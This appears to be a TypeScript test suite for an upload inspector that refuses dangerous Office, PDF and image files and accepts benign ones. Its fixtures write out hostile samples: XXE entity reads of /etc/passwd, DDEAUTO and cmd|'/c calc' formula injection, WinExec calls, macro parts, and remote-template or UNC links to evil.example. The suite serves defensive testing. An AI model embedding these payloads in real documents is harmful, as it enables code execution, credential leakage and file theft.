import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { confinedInspection } from '../setup/inspected';
import { DOCX_PARTS, docxTyped, docxWith, typesOf, XLSX_PARTS, xlsxWith } from '../setup/office-file';
import { pdfOf } from '../setup/pdf';
import { jpgOf, pngOf } from '../setup/picture';
import { packZip } from '../setup/zip';

const bytes = (text: string) => Buffer.from(text, 'latin1');

const relations = (type: string, target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const withRelation = (type: string, target: string, part = 'word/_rels/settings.xml.rels') =>
  docxWith([{ name: part, content: relations(type, target) }]);
const withXml = (content: string | Buffer) => docxWith([{ name: 'customXml/item1.xml', content }]);
const macroTypes =
  '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>';
const internal = (type: string, target: string) => relations(type, target).replace(' TargetMode="External"', '');
const document = (content: string) => packZip([DOCX_PARTS[0]!, { ...DOCX_PARTS[1]!, content }]);
const field = (...codes: string[]) =>
  document(
    `<w:document><w:body>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}</w:body></w:document>`,
  );
/** How a compound file (OLE) begins. */
const OLE = Buffer.concat([bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), Buffer.alloc(504)]);
const part = (name: string, content: string | Buffer) => docxWith([{ name, content }]);
const sheetPart = (name: string, content: string) => xlsxWith([{ name, content }]);
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';

const REFUSED: [string, string, Buffer][] = [
  ['a web page by the name of a PDF', 'a.pdf', bytes('<html><script>alert(1)</script></html>')],
  ['a web page with a PDF’s head later on', 'a.pdf', bytes('<!-- %PDF-1.7 --><html></html>')],
  ['a program by the name of a PDF', 'a.pdf', bytes('MZ\x90\0')],
  ['a PostScript program', 'a.pdf', bytes('%!PS-Adobe-3.0\n(%stdout) (w) file')],
  ['EICAR by the name of a PDF', 'a.pdf', bytes(EICAR)],
  ['EICAR by the name of a DOCX', 'a.docx', bytes(EICAR)],
  ['an archive behind a PDF', 'a.pdf', Buffer.concat([pdfOf(['x']), docxWith()])],
  ['an archive behind a JPG', 'a.jpg', Buffer.concat([jpgOf(10, 10), packZip([{ name: 'a.exe', content: 'MZ' }])])],
  [
    'an archive behind a PNG, with a comment',
    'a.png',
    Buffer.concat([pngOf(10, 10), packZip([{ name: 'a', content: '' }], { comment: bytes('x') })]),
  ],
  ['a DOCM by the name of a DOCX', 'a.docx', docxWith([{ name: 'word/vbaProject.bin', content: 'x' }])],
  ['a DOCM whose macros have another name', 'a.docx', docxWith([{ name: 'word/vbaData.xml', content: '<a/>' }])],
  [
    'an XLSM by the name of an XLSX',
    'a.xlsx',
    packZip([{ name: '[Content_Types].xml', content: macroTypes }, XLSX_PARTS[1]!]),
  ],
  ['an XLSX with macros of Excel 4', 'a.xlsx', xlsxWith([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }])],
  ['a DOCX with ActiveX', 'a.docx', docxWith([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }])],
  [
    'an XLSM behind a chart',
    'a.docx',
    docxWith([{ name: 'word/embeddings/a.xlsx', content: xlsxWith([{ name: 'xl/vbaProject.bin', content: 'x' }]) }]),
  ],
  ['a spreadsheet by the name of a DOCX', 'a.docx', xlsxWith()],
  ['a DOCX that reads a file by an entity', 'a.docx', withXml(DTD)],
  [
    'a DOCX with a billion laughs',
    'a.docx',
    withXml(`<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>`),
  ],
  [
    'an XLSX that reads a file by an entity of its list',
    'a.xlsx',
    packZip([{ ...XLSX_PARTS[0]!, content: `<!DOCTYPE a>${XLSX_PARTS[0]!.content}` }, XLSX_PARTS[1]!]),
  ],
  ['the same after a long comment', 'a.docx', withXml(`<!--${' '.repeat(200_000)}-->${DTD}`)],
  ['the same in UTF-16', 'a.docx', withXml(Buffer.from(`\ufeff${DTD}`, 'utf16le'))],
  ['the same in a part that is not named XML', 'a.docx', part('customXml/item1.dat', DTD)],
  ['a DOCX in an encoding that hides its markup', 'a.docx', withXml('<?xml version="1.0" encoding="UTF-7"?><a/>')],
  ['a DOCX with a program', 'a.docx', part('word/embeddings/x.exe', 'MZ')],
  ['a DOCX with a program named as a picture', 'a.docx', part('word/media/a.png', 'MZ\x90\0')],
  ['a DOCX with a script', 'a.docx', part('word/embeddings/x.js', 'WScript.Echo(1)')],
  ['a DOCX with a shortcut', 'a.docx', part('word/embeddings/x.bin', bytes('L\0\0\0\x01\x14\x02\0'))],
  ['a DOCX with a packaged object', 'a.docx', part('word/embeddings/oleObject1.bin', OLE)],
  ['a DOCX with a 7z archive named as a picture', 'a.docx', part('word/media/a.png', bytes('7z\xbc\xaf\x27\x1c'))],
  ['a DOCX with a RAR archive named as a picture', 'a.docx', part('word/media/a.png', bytes('Rar!\x1a\x07\0'))],
  ['a DOCX with a PDF that is no picture', 'a.docx', part('word/embeddings/a.bin', pdfOf(['x']))],
  ['a DOCX that puts in a web page', 'a.docx', part('word/_rels/document.xml.rels', internal('aFChunk', 'c.xml'))],
  ['a DOCX that puts in an RTF file', 'a.docx', part('word/c.rtf', '{\\rtf1 x}')],
  ['a DOCX that says where to put a file in', 'a.docx', document('<w:document><w:altChunk r:id="x"/></w:document>')],
  [
    'macros whose type is written with a character reference',
    'a.docx',
    docxTyped('<Override PartName="/word/a.bin" ContentType="application/vnd.ms-offic&#101;.vbaProject"/>', [
      { name: 'word/a.bin', content: 'x' },
    ]),
  ],
  [
    'macros that a relation names',
    'a.docx',
    part(
      'word/_rels/document.xml.rels',
      '<Relationships><Relationship Id="a" Type="http://x/relationships/vba&#80;roject" Target="a.bin"/></Relationships>',
    ),
  ],
  [
    'macros of Excel 4 at another path',
    'a.xlsx',
    xlsxWith([
      { name: 'xl/sheets/s.xml', content: '<a/>' },
      { name: 'xl/_rels/workbook.xml.rels', content: internal('xlMacrosheet', 'sheets/s.xml') },
    ]),
  ],
  [
    'macros of Excel 4 by their type',
    'a.xlsx',
    packZip([
      {
        name: '[Content_Types].xml',
        content: typesOf(
          'xl/workbook.xml',
          'spreadsheetml.sheet.main',
          '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
      },
      XLSX_PARTS[1]!,
    ]),
  ],
  [
    'an XLSX that asks another program',
    'a.xlsx',
    sheetPart('xl/x/e.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
  ],
  [
    'the same with a prefix',
    'a.xlsx',
    sheetPart('xl/x/e.xml', '<x:externalLink xmlns:x="y"><x:ddeLink x:ddeService="cmd"/></x:externalLink>'),
  ],
  [
    'an XLSX that fetches when it is opened',
    'a.xlsx',
    sheetPart('xl/connections.xml', '<connections><connection refreshOnLoad="&#49;"/></connections>'),
  ],
  ['a DOCX with a field that starts a program', 'a.docx', field('DDEAUTO c:\\\\windows\\\\cmd.exe')],
  ['the same in pieces', 'a.docx', field('DD', 'E', 'AUTO cmd')],
  ['the same in character references', 'a.docx', field('&#68;DE cmd')],
  ['the same in a section of plain text', 'a.docx', field('<![CDATA[DDEAUTO cmd]]>')],
  ['the same split by a comment', 'a.docx', field('DD<!-- -->EAUTO cmd')],
  ['the same letter by letter', 'a.docx', field('QUOTE 68 68 69 65 85 84 79')],
  ['the same as a simple field', 'a.docx', document('<w:document><w:fldSimple w:instr=" DDE cmd "/></w:document>')],
  [
    'a DOCX with a picture of another computer in a field',
    'a.docx',
    field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" '),
  ],
  [
    'a DOCX with a picture of another computer',
    'a.docx',
    withRelation('image', 'file://evil.example/share/x.png', 'word/_rels/document.xml.rels'),
  ],
  [
    'the same as a path of Windows',
    'a.docx',
    withRelation('image', '\\\\evil.example\\x.png', 'word/_rels/document.xml.rels'),
  ],
  [
    'the same with a hidden path',
    'a.docx',
    withRelation('image', 'file:///%5C%5Cevil.example/x.png', 'word/_rels/document.xml.rels'),
  ],
  [
    'a DOCX whose letters come from a data source',
    'a.docx',
    withRelation('mailMergeSource', 'file://evil.example/a.mdb'),
  ],
  ['a DOCX with an add-in', 'a.docx', part('_rels/.rels', internal('webextensiontaskpanes', 'a.xml'))],
  [
    'a DOCX with a video of the web in a frame',
    'a.docx',
    document('<w:document><wp15:webVideoPr embeddedHtml="x"/></w:document>'),
  ],
  ['a drawing with a script', 'a.docx', part('word/media/a.svg', '<svg><script>x</script></svg>')],
  [
    'an old drawing that names a picture of another computer',
    'a.docx',
    part('word/a.xml', '<v:imagedata src="\\\\evil.example\\a.png"/>'),
  ],
  ['the same with a character reference', 'a.docx', part('word/a.vml', '<v:fill src="&#92;&#92;evil.example/a"/>')],
  [
    'a DTD behind kilobytes of blanks in a part without an ending',
    'a.docx',
    part('word/a', `${' '.repeat(5_000)}${DTD}`),
  ],
  ['markup in letters of another code', 'a.docx', part('word/a.xml', bytes('\x4c\x6f\xa7\x94\x93'))],
  ['a picture that is none', 'a.docx', part('word/media/a.png', 'WScript.Echo(1)')],
  ['a shortcut to the web named as data', 'a.docx', part('word/a.bin', '[InternetShortcut]\nURL=https://evil.example')],
  ['an encoded script named as data', 'a.docx', part('word/a.dat', '#@~^AAAA==')],
  ['a web archive named as data', 'a.docx', part('word/a.bin', 'MIME-Version: 1.0\n')],
  ['a disk image named as data', 'a.docx', part('word/a.bin', 'vhdxfile')],
  ['a program of macOS', 'a.docx', part('word/a.bin', bytes('\xfe\xed\xfa\xcf'))],
  ['an old RAR archive', 'a.docx', part('word/a.bin', 'RE~^')],
  ...[
    "cmd|'/c calc'!A0",
    'cmd|&apos;/c calc&apos;!A0',
    'cmd&#124;x!A0',
    "<![CDATA[MSEXCEL|'\\..\\cmd.exe'!A1]]>",
    'WEBSERVICE("https://evil.example/")',
    '_xlfn.WEBSERVICE(A1)',
    '_xlfn.IMAGE("https://evil.example/a.png")',
    'RTD("a.b",,"c")',
    '1+CALL("kernel32","WinExec","JFJ","calc",1)',
    `EXE&#67;("calc")`,
  ].map((formula): [string, string, Buffer] => [
    `an XLSX with the formula ${formula}`,
    'a.xlsx',
    sheetPart('xl/worksheets/sheet1.xml', `<worksheet><c><f>${formula}</f><v>0</v></c></worksheet>`),
  ]),
  [
    'the same as a name',
    'a.xlsx',
    sheetPart('xl/names.xml', `<a><definedName name="x">cmd|'/c calc'!A0</definedName></a>`),
  ],
  [
    'a name that starts by itself',
    'a.xlsx',
    sheetPart('xl/names.xml', '<a><definedName name="_xlnm.Auto_Open">A1</definedName></a>'),
  ],
  [
    'a query that is asked when it is opened',
    'a.xlsx',
    sheetPart('xl/queryTables/a.xml', '<queryTable refreshOnLoad="1"/>'),
  ],
  [
    'a connection that is asked every minute',
    'a.xlsx',
    sheetPart('xl/connections.xml', '<connections><connection interval="1"/></connections>'),
  ],
  [
    'a pivot table that asks a database',
    'a.xlsx',
    sheetPart(
      'xl/pivotCache/a.xml',
      '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
    ),
  ],
  ['a dialog sheet', 'a.xlsx', sheetPart('xl/sheets/a.xml', '<dialogsheet/>')],
  ...[
    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    'INCLUDEPICTURE https://evil.example/a.png',
    'INCLUDETEXT "file://evil.example/a.docx"',
    'LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" "Sheet1!R1C1" \\a',
    'RD "\\\\\\\\evil.example\\\\a.docx"',
    'DATABASE \\c "DSN=x"',
  ].map((code): [string, string, Buffer] => [`a DOCX with the field ${code}`, 'a.docx', field(code)]),
  [
    'a DOCX whose field takes its address from another',
    'a.docx',
    document(
      '<w:document><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:document>',
    ),
  ],
  [
    'a DOCX whose field is split by an empty one',
    'a.docx',
    document(
      '<w:document><w:instrText>DD</w:instrText><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="end"/><w:instrText>EAUTO cmd</w:instrText></w:document>',
    ),
  ],
  [
    'a DOCX with a picture of the web',
    'a.docx',
    withRelation('image', 'https://gialai.gov.vn/a.png', 'word/_rels/document.xml.rels'),
  ],
  ...['subDocument', 'video', 'stylesheet', 'footnotes', 'customXml', 'unknown'].map(
    (type): [string, string, Buffer] => [
      `a DOCX whose ${type} lies on another computer`,
      'a.docx',
      withRelation(type, 'https://evil.example/a', 'word/_rels/document.xml.rels'),
    ],
  ),
  [
    'the same where it is not said to be outside',
    'a.docx',
    part('word/_rels/document.xml.rels', internal('image', 'file://evil.example/a.png')),
  ],
  ['a template by a path of the system', 'a.docx', withRelation('attachedTemplate', '\\??\\UNC\\evil.example\\t.dotm')],
  [
    'a template by a path with one escape that is none',
    'a.docx',
    withRelation('attachedTemplate', 'file:///%5C%5Cevil.example/%zz'),
  ],
  ['a DOCX whose markup does not end', 'a.docx', part('word/_rels/document.xml.rels', '<Relationships><Relationship>')],
  ['a DOCX that fetches its template', 'a.docx', withRelation('attachedTemplate', 'https://evil.example/t.dotm')],
  ['the same from a share', 'a.docx', withRelation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
  ['the same with a hidden address', 'a.docx', withRelation('attachedTemplate', '&#104;ttps://evil.example/t.dotm')],
  [
    'a DOCX with an object of another server',
    'a.docx',
    withRelation('oleObject', 'mhtml:https://evil.example/a.html!x', 'word/_rels/document.xml.rels'),
  ],
  [
    'a DOCX with a frame of another server',
    'a.docx',
    withRelation('frame', '//evil.example/a', 'word/_rels/webSettings.xml.rels'),
  ],
  ['a PNG of fifty thousand by fifty thousand', 'a.png', pngOf(50_000, 50_000)],
  ['a JPG of fifty thousand by fifty thousand', 'a.jpg', jpgOf(50_000, 50_000)],
  ['a PNG of a line that has no end', 'a.png', pngOf(0x7fffffff, 1)],
  ['an SVG', 'a.svg', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['an SVG by the name of a PNG', 'a.png', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['a GIF by the name of a PNG', 'a.png', bytes('GIF89a/*')],
  ['a PNG that is only its head', 'a.png', bytes('\x89PNG\r\n\x1a\n')],
  ['a JPG without a picture', 'a.jpg', bytes('\xff\xd8\xff\xe0')],
  ['a RAR archive behind a JPG', 'a.jpg', Buffer.concat([jpgOf(10, 10), bytes('Rar!\x1a\x07\x01\0')])],
  ['a 7z archive behind a PNG', 'a.png', Buffer.concat([pngOf(10, 10), bytes('7z\xbc\xaf\x27\x1c')])],
  ['a JPG by the name of a PNG', 'a.png', jpgOf(10, 10)],
  ['a PDF by the name of a JPG', 'a.jpg', pdfOf(['x'])],
  ['an old DOC with a password or macros', 'a.docx', bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
  ['a shortcut', 'a.pdf', bytes('L\0\0\0\x01\x14\x02\0')],
  ['a plain archive', 'a.xlsx', packZip([{ name: 'a.txt', content: 'x' }])],
];

/** Taken, because refusing would hit honest reports; the file comes back inert (`w08-served-files`). */
const TAKEN: [string, string, Buffer][] = [
  ['a JPG whose comment holds a web page', 'a.jpg', jpgOf(10, 10, '\xff\xfe\0\x1b<script>alert(1)</script>')],
  ['a scanned A3 page at 600 dots an inch', 'a.jpg', jpgOf(9_921, 7_016)],
  [
    'a DOCX with links people click',
    'a.docx',
    withRelation('hyperlink', 'https://gialai.gov.vn', 'word/_rels/document.xml.rels'),
  ],
  ...[
    'file:///C:\\Users\\Lan\\Normal.dotm',
    'file:///C:/Users/Lan/Normal.dotm',
    'file:\\\\C:\\Users\\Lan\\Normal.dotm',
    'C:\\Users\\Lan\\Normal.dotm',
    'file:///home/lan/Templates/cong-van.dotx',
    'file:////Users/lan/Library/Group%20Containers/Normal.dotm',
    '/Users/lan/Normal.dotm',
    'Normal.dotm',
  ].map((target): [string, string, Buffer] => [
    `a DOCX with a template on its writer’s disk, ${target}`,
    'a.docx',
    withRelation('attachedTemplate', target),
  ]),
  ['a DOCX with a table of contents', 'a.docx', field(' TOC \\\\o &quot;1-3&quot; ', ' PAGE ')],
  [
    'an XLSX whose pivot table reads its own sheet again',
    'a.xlsx',
    sheetPart('xl/pivotCache/a.xml', '<pivotCacheDefinition refreshOnLoad="1"/>'),
  ],
  ['a DOCX with a part that has no ending, as Google writes it', 'a.docx', part('xl/metadata', '<a/>')],
  ['a DOCX with a picture as PDF, as Word for macOS writes it', 'a.docx', part('word/media/image1.pdf', pdfOf(['x']))],
  [
    'a DOCX with a drawing that names the public type of SVG',
    'a.docx',
    part('word/media/a.svg', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg/>'),
  ],
  [
    'a DOCX that takes numbers from a workbook on the same disk',
    'a.docx',
    field(
      'LINK Excel.Sheet.12 "C:\\\\Bao cao\\\\a.xlsx" "Sheet1!R1C1:R9C4" \\a',
      'INCLUDEPICTURE "anh.png" \\* MERGEFORMAT',
    ),
  ],
  [
    'an XLSX with a bar in a text and in the name of a sheet',
    'a.xlsx',
    sheetPart(
      'xl/worksheets/sheet1.xml',
      `<worksheet><c><f>A1&amp;" | "&amp;'I | II'!B2+SUM(C1:C9)</f></c></worksheet>`,
    ),
  ],
  [
    'an XLSX that takes numbers from another, which Excel asks about',
    'a.xlsx',
    sheetPart('xl/externalLinks/_rels/a.xml.rels', relations('externalLinkPath', 'file:///\\\\may-chu\\a.xlsx')),
  ],
  [
    'an XLSX with a print area',
    'a.xlsx',
    sheetPart('xl/names.xml', '<a><definedName name="_xlnm.Print_Area">A1:B2</definedName></a>'),
  ],
  [
    'a DOCX whose main part has another name, as Word on the web writes it',
    'a.docx',
    packZip([
      { name: '[Content_Types].xml', content: typesOf('word/document2.xml', 'wordprocessingml.document.main') },
      { ...DOCX_PARTS[1]!, name: 'word/document2.xml' },
    ]),
  ],
  ['a photo with another ending of its kind', 'a.jfif', jpgOf(10, 10)],
  ['a PDF behind a byte order mark', 'a.pdf', Buffer.concat([bytes('\xef\xbb\xbf'), pdfOf(['x'])])],
  ['a PDF behind an empty line', 'a.pdf', Buffer.concat([bytes('\r\n'), pdfOf(['x'])])],
  [
    'a DOCX that speaks of entities',
    'a.docx',
    packZip([DOCX_PARTS[0]!, { ...DOCX_PARTS[1]!, content: '<w:t>&lt;!DOCTYPE html&gt;</w:t>' }]),
  ],
];

describe('a file that would do something when it is opened', () => {
  const inspected = confinedInspection();

  it.each(REFUSED)('is refused with code and reason: %s', async (_, name, content) => {
    expect(await inspected(name, content)).toMatchObject({
      ok: false,
      code: 'UPLOAD_TYPE',
      message: expect.stringContaining(`Tệp “${name}”`),
    });
  });

  it.each(TAKEN)('is not seen where there is none: %s', async (_, name, content) => {
    expect(await inspected(name, content)).toMatchObject({ ok: true });
  });

  it('is refused when an archive with sizes of 64 bits stands behind a PDF', async () => {
    const writer = new ZipWriter(new Uint8ArrayWriter(), { zip64: true });
    await writer.add('a.exe', new TextReader('MZ'));
    const content = Buffer.concat([pdfOf(['x']), await writer.close()]);
    expect(await inspected('a.pdf', content)).toMatchObject({ ok: false, message: expect.stringContaining('tệp nén') });
  });
});
